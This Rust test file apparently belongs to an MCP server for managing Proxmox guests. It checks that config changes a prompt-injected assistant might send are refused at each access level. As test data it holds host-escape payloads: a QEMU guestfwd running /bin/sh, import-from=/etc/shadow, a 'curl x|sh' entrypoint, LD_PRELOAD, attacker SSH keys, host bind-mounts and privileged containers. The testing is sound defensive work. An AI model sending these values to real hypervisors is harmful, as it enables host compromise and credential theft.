//! Attacks through guest config (issue: safety holes, sections 1 and 2), each sent as a
//! prompt-injected assistant would, at the access level the operator chose. Each asserts the
//! refusal the client reads and that the mocked PVE received no write; positive controls show
//! that what a level allows still goes through.

use serde_json::{json, Value};

use crate::support::{assert_starts, error_text, session, FakePve, FULL_EXEC, FULL_HOST};

// Every toolset loaded: the config, create, clone and restore tools are in several.
pub(crate) const OPERATE: &[(&str, &str)] = &[
    ("PROXMOX_MCP_ACCESS", "operate"),
    ("PROXMOX_MCP_TOOLS", "all"),
];
const FULL: &[(&str, &str)] = &[("PROXMOX_MCP_ACCESS", "full"), ("PROXMOX_MCP_TOOLS", "all")];

/// Fails the test unless `text` starts with `prefix` and names the key class host.
pub(crate) fn assert_host_level(text: &str, prefix: &str) {
    assert_starts(text, prefix);
    assert!(text.contains("(key class: host)"), "{text}");
}

/// Sends `set` to guest 104 (`kind`: vm or container) and returns the error text.
pub(crate) fn refused_set(
    fake: &FakePve,
    settings: &[(&str, &str)],
    kind: &str,
    set: Value,
) -> String {
    let mut text = String::new();
    session(fake, settings, |c| {
        let r = c.call(
            &format!("update_{kind}_config"),
            json!({"vmid": 104, "node": "pve1", "set": set}),
        );
        text = error_text(&r).to_string();
    });
    text
}

/// With `settings`, `update_vm_config` of VM 104 with `set` is answered `{"data": null}`, and
/// `write` is all PVE was sent.
fn updates_vm_104(fake: &FakePve, settings: &[(&str, &str)], set: Value, write: &str) {
    session(fake, settings, |c| {
        assert_eq!(
            &c.ok(
                "update_vm_config",
                json!({"vmid": 104, "node": "pve1", "set": set})
            ),
            &json!({"data": null})
        );
    });
    assert_eq!(fake.writes(), [write]);
}

#[test]
fn host_level_vm_keys_are_refused_at_operate_and_at_plain_full() {
    let fake = FakePve::new();
    let attacks = [
        ("args", json!("-chardev socket,id=x,path=/tmp/x -device virtio-serial -netdev user,id=n,guestfwd=tcp:10.0.2.100:1-cmd:/bin/sh"), "passes raw arguments to QEMU on the host"),
        ("hookscript", json!("local:snippets/evil.pl"), "runs a script on the host"),
        ("hostpci0", json!("0000:01:00.0"), "passes a host PCI device"),
        ("usb0", json!("host=1d6b:0002"), "passes a host USB device"),
        ("usb1", json!("mapping=token"), "passes a host USB device"),
        ("serial0", json!("/dev/ttyS0"), "passes a host serial device"),
        ("parallel0", json!("/dev/parport0"), "passes a host parallel port"),
        ("ivshmem", json!("size=64"), "shares host memory"),
        ("affinity", json!("0-3"), "pins the guest to host CPU cores"),
        ("virtiofs0", json!("dirid=share"), "shares a host directory"),
        ("cicustom", json!("user=local:snippets/user.yaml"), "feeds snippet files"),
        ("scsi1", json!("/dev/sdb"), "hands the host path /dev/sdb to the guest"),
        ("virtio1", json!("file=/dev/disk/by-id/nvme-host,cache=none"), "hands the host path /dev/disk/by-id/nvme-host"),
        ("scsi2", json!("local-lvm:0,import-from=/etc/shadow"), "hands the host path /etc/shadow"),
        ("rng0", json!("source=/dev/hwrng"), "host's hardware random number generator"),
    ];
    for (key, value, why) in &attacks {
        let text = refused_set(&fake, OPERATE, "vm", json!({ *key: value }));
        assert!(
            text.starts_with(&format!("update_vm_config: setting '{key}' ")),
            "{key}: {text}"
        );
        assert!(text.contains(why), "{key}: {text}");
        assert!(text.contains("(key class: host)"), "{key}: {text}");
        assert!(
            text.contains("PROXMOX_MCP_ACCESS=full and PROXMOX_MCP_ALLOW_HOST_CONFIG=true"),
            "{key}: {text}"
        );
        // Full access alone is not enough: the host switch is separate.
        let text = refused_set(&fake, FULL, "vm", json!({ *key: value }));
        assert!(
            text.contains("but this server runs with PROXMOX_MCP_ACCESS=full and without PROXMOX_MCP_ALLOW_HOST_CONFIG"),
            "{key}: {text}"
        );
    }
    fake.assert_untouched();
}

#[test]
fn host_level_container_keys_are_refused() {
    let mut fake = FakePve::new();
    fake.config("pve1/lxc/104", json!({"hostname": "ct", "unprivileged": 1}));
    let attacks = [
        ("mp0", json!("/,mp=/host"), "bind-mounts the host path /"),
        (
            "mp1",
            json!("/etc/pve,mp=/mnt/pve,ro=0"),
            "bind-mounts the host path /etc/pve",
        ),
        (
            "rootfs",
            json!("/var/lib/host-root"),
            "bind-mounts the host path",
        ),
        ("dev0", json!("/dev/sda"), "passes a host device"),
        (
            "features",
            json!("keyctl=1,nesting=1,mount=nfs"),
            "weakens the container's isolation",
        ),
        (
            "hookscript",
            json!("local:snippets/evil.pl"),
            "runs a script on the host",
        ),
        ("unprivileged", json!(false), "makes a privileged container"),
    ];
    for (key, value, why) in &attacks {
        let text = refused_set(&fake, OPERATE, "container", json!({ *key: value }));
        assert!(
            text.starts_with(&format!("update_container_config: setting '{key}' {why}")),
            "{key}: {text}"
        );
        assert!(text.contains("(key class: host)"), "{key}: {text}");
    }
    // Dry runs refuse the same way.
    session(&fake, OPERATE, |c| {
        let r = c.call(
            "update_container_config",
            json!({"vmid": 104, "node": "pve1", "set": {"mp0": "/,mp=/host"}, "dry_run": true}),
        );
        assert!(error_text(&r).contains("bind-mounts the host path /"));
    });
    fake.assert_no_writes();
    // Only `features` needed the container's config (unprivileged or not).
    assert_eq!(fake.lines(), ["GET /nodes/pve1/lxc/104/config"]);
}

#[test]
fn host_and_exec_keys_go_through_with_full_and_their_switch() {
    for (settings, set, write) in [
        (
            FULL_HOST,
            json!({"hostpci0": "0000:01:00.0", "args": "-no-hpet"}),
            "PUT /nodes/pve1/qemu/104/config args=-no-hpet&hostpci0=0000%3A01%3A00.0",
        ),
        (
            FULL_EXEC,
            json!({"ciuser": "admin"}),
            "PUT /nodes/pve1/qemu/104/config ciuser=admin",
        ),
    ] {
        let mut fake = FakePve::new();
        fake.ok("PUT", "/nodes/pve1/qemu/104/config", Value::Null);
        updates_vm_104(&fake, settings, set, write);
    }
}

#[test]
fn login_and_command_keys_are_treated_like_exec() {
    let fake = FakePve::new();
    for (kind, key, value) in [
        ("vm", "cipassword", "hunter2"),
        ("vm", "sshkeys", "ssh-ed25519%20AAAA%20attacker"),
        ("vm", "ciuser", "root"),
        ("container", "entrypoint", "/bin/sh -c 'curl x|sh'"),
        ("container", "env", "LD_PRELOAD=/tmp/x.so"),
    ] {
        for settings in [OPERATE, FULL, FULL_HOST] {
            let text = refused_set(&fake, settings, kind, json!({ key: value }));
            assert!(text.contains(&format!("setting '{key}' ")), "{text}");
            assert!(
                text.contains("gets around the exec switch (key class: exec)"),
                "{text}"
            );
            assert!(text.contains("PROXMOX_MCP_ALLOW_EXEC=true"), "{text}");
            assert!(!text.contains("hunter2"), "{text}");
        }
    }
    // create_container's SSH keys are a login as well.
    let mut fake2 = FakePve::new();
    fake2.get("/cluster/nextid", json!(210));
    session(&fake2, OPERATE, |c| {
        let r = c.call(
            "create_container",
            json!({"node": "pve1", "ostemplate": "local:vztmpl/alpine.tar.xz", "storage": "local-lvm",
                   "set": {"ssh-public-keys": "ssh-ed25519 AAAA attacker"}}),
        );
        assert!(error_text(&r).starts_with(
            "create_container: setting 'ssh-public-keys' puts a login into the new container"
        ));
    });
    fake.assert_untouched();
    fake2.assert_no_writes();
}

#[test]
fn lock_is_never_set_or_removed() {
    let fake = FakePve::new();
    let all = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "all"),
        ("PROXMOX_MCP_ALLOW_HOST_CONFIG", "true"),
        ("PROXMOX_MCP_ALLOW_EXEC", "true"),
    ];
    session(&fake, &all, |c| {
        let text = error_text(&c.call(
            "update_vm_config",
            json!({"vmid": 104, "node": "pve1", "set": {"lock": "backup"}}),
        ))
        .to_string();
        assert_starts(
            &text,
            "update_vm_config: setting 'lock' only PVE sets and clears locks",
        );
        assert!(text.contains("(key class: never); no tool may change it; nothing was sent"));
        assert_starts(
            &c.error(
                "update_container_config",
                json!({"vmid": 104, "node": "pve1", "delete": ["lock"]}),
            ),
            "update_container_config: removing 'lock' only PVE sets",
        );
    });
    fake.assert_untouched();
}

#[test]
fn one_way_and_data_losing_changes_need_full() {
    let mut fake = FakePve::new();
    fake.config(
        "pve1/qemu/104",
        json!({"scsi1": "local-lvm:vm-104-disk-1,size=8G", "ide2": "local:iso/d.iso,media=cdrom"}),
    );
    session(&fake, OPERATE, |c| {
        for (args, expected) in [
            (json!({"set": {"template": 1}}), "setting 'template' turns the guest into a template, which cannot be undone (key class: data)"),
            (json!({"delete": ["scsi1"]}), "removing 'scsi1' detaches a disk from the guest"),
            (json!({"delete": ["unused3"]}), "removing 'unused3' frees that disk volume (its data is lost)"),
            (json!({"set": {"protection": 0}}), "setting 'protection' clears the protection flag"),
        ] {
            let mut call = json!({"vmid": 104, "node": "pve1"});
            for (k, v) in args.as_object().unwrap() {
                call[k] = v.clone();
            }
            let text = error_text(&c.call("update_vm_config", call)).to_string();
            assert_starts(&text, &format!("update_vm_config: {expected}"));
            assert!(text.contains("it needs access level full"), "{text}");
        }
    });
    fake.assert_no_writes();
}

#[test]
fn guest_level_changes_and_new_disks_still_work_at_operate() {
    let mut fake = FakePve::new();
    fake.ok("PUT", "/nodes/pve1/qemu/104/config", Value::Null);
    fake.ok("PUT", "/nodes/pve1/lxc/105/config", Value::Null);
    session(&fake, OPERATE, |c| {
        assert_eq!(
            &c.ok(
                "update_vm_config",
                json!({"vmid": 104, "node": "pve1", "set": {
                "cores": 4, "name": "web2", "tags": "prod", "net1": "virtio,bridge=vmbr1",
                "scsi1": "local-lvm:32,iothread=1", "ide2": "local:iso/debian.iso,media=cdrom",
                "scsi2": "local-lvm:vm-104-disk-5", "ipconfig0": "ip=dhcp", "usb0": "spice",
                "serial0": "socket", "protection": 1}})
            ),
            &json!({"data": null})
        );
        assert_eq!(&c.ok("update_container_config",
            json!({"vmid": 105, "node": "pve1", "set": {"mp0": "local-lvm:8,mp=/data", "memory": 1024}})), &json!({"data": null}));
    });
    assert_eq!(fake.writes().len(), 2, "{:?}", fake.writes());
    assert!(fake.writes()[0].contains("scsi1=local-lvm%3A32"));
    assert!(fake.writes()[1].contains("mp0=local-lvm%3A8%2Cmp%3D%2Fdata"));
}

#[test]
fn unknown_keys_are_refused_by_name() {
    let fake = FakePve::new();
    for settings in [OPERATE, FULL_HOST] {
        let text = refused_set(&fake, settings, "vm", json!({"frobnicate": 1}));
        assert_starts(
            &text,
            "invalid arguments: 'set': 'frobnicate' is not a VM config key PVE knows",
        );
        let text = refused_set(
            &fake,
            settings,
            "container",
            json!({"lxc.apparmor.profile": "unconfined"}),
        );
        assert!(text.contains("'lxc.apparmor.profile'"), "{text}");
    }
    fake.assert_untouched();
}

#[test]
fn privileged_containers_are_host_level() {
    let mut fake = FakePve::new();
    fake.get("/cluster/nextid", json!(210));
    for settings in [OPERATE, FULL] {
        session(&fake, settings, |c| {
            let r = c.call(
                "create_container",
                json!({"node": "pve1", "ostemplate": "local:vztmpl/alpine.tar.xz", "storage": "local-lvm",
                       "set": {"unprivileged": false}}),
            );
            let text = error_text(&r);
            assert_starts(text, "create_container: setting 'unprivileged' makes a privileged container, whose root is root on the host (key class: host)");
        });
    }
    fake.assert_no_writes();
}

// ---------------------------------------------------------------------------------------------
// Other guests' volumes.

fn protected_103(access: &'static str) -> Vec<(&'static str, &'static str)> {
    vec![
        ("PROXMOX_MCP_ACCESS", access),
        ("PROXMOX_MCP_TOOLS", "all"),
        ("PROXMOX_MCP_PROTECTED", "103"),
    ]
}

#[test]
fn another_guests_disk_cannot_be_attached() {
    let mut fake = FakePve::new();
    fake.ok("PUT", "/nodes/pve1/qemu/104/config", Value::Null);
    let attacks = [
        ("vm", "scsi1", "local-lvm:vm-103-disk-0"),
        ("vm", "virtio2", "file=ceph:vm-103-disk-1,cache=none"),
        ("vm", "sata0", "local:103/vm-103-disk-0.qcow2"),
        (
            "vm",
            "scsi3",
            "local-lvm:0,import-from=local-lvm:vm-103-disk-0",
        ),
        ("vm", "scsi4", "rbd:base-103-disk-0"),
        ("container", "mp1", "local-zfs:subvol-103-disk-0,mp=/mnt/x"),
        ("container", "rootfs", "local-lvm:vm-103-disk-0"),
    ];
    for (kind, key, value) in attacks {
        // At operate: refused whoever owns it.
        let text = refused_set(
            &fake,
            &protected_103("operate"),
            kind,
            json!({ key: value }),
        );
        assert!(
            text.contains(&format!("setting '{key}' names "))
                && text.contains(
                    "a volume of guest 103: two guests on one disk corrupt it (key class: data)"
                ),
            "{key}: {text}"
        );
        // At full: refused while 103 is protected.
        let text = refused_set(&fake, &protected_103("full"), kind, json!({ key: value }));
        assert!(
            text.contains(
                "guest 103 is protected on this server (PROXMOX_MCP_PROTECTED names VMID 103)"
            ),
            "{key}: {text}"
        );
    }
    fake.assert_no_writes();
    // At full, an unprotected guest's volume may be attached (the operator's call).
    updates_vm_104(
        &fake,
        FULL,
        json!({"scsi1": "local-lvm:vm-103-disk-0"}),
        "PUT /nodes/pve1/qemu/104/config scsi1=local-lvm%3Avm-103-disk-0",
    );
}

#[test]
fn create_vm_cannot_take_another_guests_disk_as_cdrom() {
    let mut fake = FakePve::new();
    fake.get("/cluster/nextid", json!(150));
    session(&fake, OPERATE, |c| {
        let r = c.call(
            "create_vm",
            json!({"node": "pve1", "storage": "local-lvm", "cdrom": "local-lvm:vm-103-disk-0"}),
        );
        let text = error_text(&r);
        assert_starts(
            text,
            "create_vm: setting 'ide2' names local-lvm:vm-103-disk-0, a volume of guest 103",
        );
    });
    fake.assert_no_writes();
}

#[test]
fn resize_refuses_a_disk_of_another_guest() {
    let mut fake = FakePve::new();
    fake.get(
        "/nodes/pve1/qemu/104/config",
        json!({"name": "victim-attacher", "scsi0": "local-lvm:vm-104-disk-0,size=8G",
               "scsi1": "local-lvm:vm-103-disk-0,size=32G", "digest": "aa"}),
    );
    for settings in [OPERATE, FULL] {
        session(&fake, settings, |c| {
            assert_eq!(
                c.error(
                    "resize_vm_disk",
                    json!({"vmid": 104, "node": "pve1", "disk": "scsi1", "size": "+100G"})
                ),
                "GET /nodes/pve1/qemu/104/config: scsi1 of VM 104 is local-lvm:vm-103-disk-0,size=32G, which belongs to guest 103; resize_vm_disk grows only the guest's own disks; nothing was sent"
            );
        });
    }
    fake.assert_no_writes();
}

// ---------------------------------------------------------------------------------------------
// Restores bring back the backup's config.

pub(crate) const ARCHIVE: &str = "local:backup/vzdump-qemu-100-2025_01_31-02_00_00.vma.zst";
pub(crate) const CT_ARCHIVE: &str = "local:backup/vzdump-lxc-200-2025_01_31-02_00_00.tar.zst";

pub(crate) fn restore_fake(config: Option<&str>) -> FakePve {
    let mut fake = FakePve::new();
    fake.get("/cluster/nextid", json!(150));
    fake.get("/cluster/resources",
        json!([{"id": "storage/pve1/local", "type": "storage", "storage": "local", "node": "pve1", "content": "backup", "status": "available"}]),
    );
    fake.get("/nodes/pve1/storage/local/content/local:backup%2Fvzdump-qemu-100-2025_01_31-02_00_00.vma.zst",
        json!({"format": "vma.zst", "size": 1000}),
    );
    fake.get("/nodes/pve1/storage/local/content/local:backup%2Fvzdump-lxc-200-2025_01_31-02_00_00.tar.zst",
        json!({"format": "tar.zst", "size": 1000}),
    );
    if let Some(config) = config {
        fake.get("/nodes/pve1/vzdump/extractconfig", json!(config));
    }
    fake
}

/// `restore_backup` of `archive` to pve1 with `settings` is refused: its error text. PVE
/// received no write.
pub(crate) fn restore_refused(fake: &FakePve, settings: &[(&str, &str)], archive: &str) -> String {
    let mut text = String::new();
    session(fake, settings, |c| {
        text = c.error(
            "restore_backup",
            json!({"archive": archive, "node": "pve1"}),
        );
    });
    fake.assert_no_writes();
    text
}

#[test]
fn restoring_a_backup_with_host_keys_is_refused() {
    let fake = restore_fake(Some("args: -device pci-assign,host=01:00.0\ncores: 2\nhookscript: local:snippets/x.pl\nname: web\n"));
    let text = restore_refused(&fake, OPERATE, ARCHIVE);
    let args = format!(
        "restore_backup: the backup {ARCHIVE} sets 'args', which passes raw arguments to QEMU"
    );
    assert_starts(&text, &args);
    assert!(
        text.contains("PROXMOX_MCP_ALLOW_HOST_CONFIG=true"),
        "{text}"
    );
    assert!(fake
        .lines()
        .iter()
        .any(|l| l.starts_with("GET /nodes/pve1/vzdump/extractconfig?volume=")));
}

#[test]
fn restoring_a_privileged_container_backup_is_refused() {
    let fake = restore_fake(Some(
        "arch: amd64\nhostname: ct\nrootfs: local-lvm:vm-200-disk-0,size=8G\n",
    ));
    let text = restore_refused(&fake, FULL, CT_ARCHIVE);
    assert!(
        text.contains("sets 'unprivileged', which makes a privileged container"),
        "{text}"
    );
}

#[test]
fn restoring_a_backup_whose_config_cannot_be_read_is_refused() {
    let mut fake = restore_fake(None);
    fake.fail(
        "GET",
        "/nodes/pve1/vzdump/extractconfig",
        403,
        "Permission check failed (/vms/100, VM.Backup)",
    );
    assert!(restore_refused(&fake, OPERATE, ARCHIVE).starts_with(
        "restore_backup: the backup's configuration could not be read to check it for host-level keys (GET /nodes/pve1/vzdump/extractconfig: Permission check failed"
    ));
}
